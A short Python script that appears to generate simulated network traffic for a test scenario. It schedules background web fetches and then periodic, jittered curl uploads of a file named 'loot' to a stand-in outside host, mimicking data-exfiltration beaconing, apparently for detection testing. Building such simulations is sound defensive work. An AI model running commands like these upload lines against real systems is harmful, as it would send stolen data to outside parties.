import os, random, sys
sys.path.insert(0, os.path.join(os.path.dirname(__file__), "../.."))
from hours import Life

life, tmp, rng = Life(*sys.argv[1:3]), sys.argv[3], random.Random(3)
day = 86400
when = 0
while when < 3 * day:
    page = f"http://198.51.100.{rng.randint(20, 27)}/{rng.choice(['1', '4', '12'])}.html"
    life.at(when, life.on, "pcs", "curl", "-s", "-m", "5", "-o", "/dev/null", page)
    when += min(rng.expovariate(1 / 1300), 3000)
life.every(2 * day + 600, 2 * day + 600 + 20 * 3600, 1800, life.on, "pcs", "curl", "-s", "-m", "60", "-T", f"{tmp}/loot",
           "http://203.0.113.66:8080/x", jitter=0.5, rng=rng)
life.run()
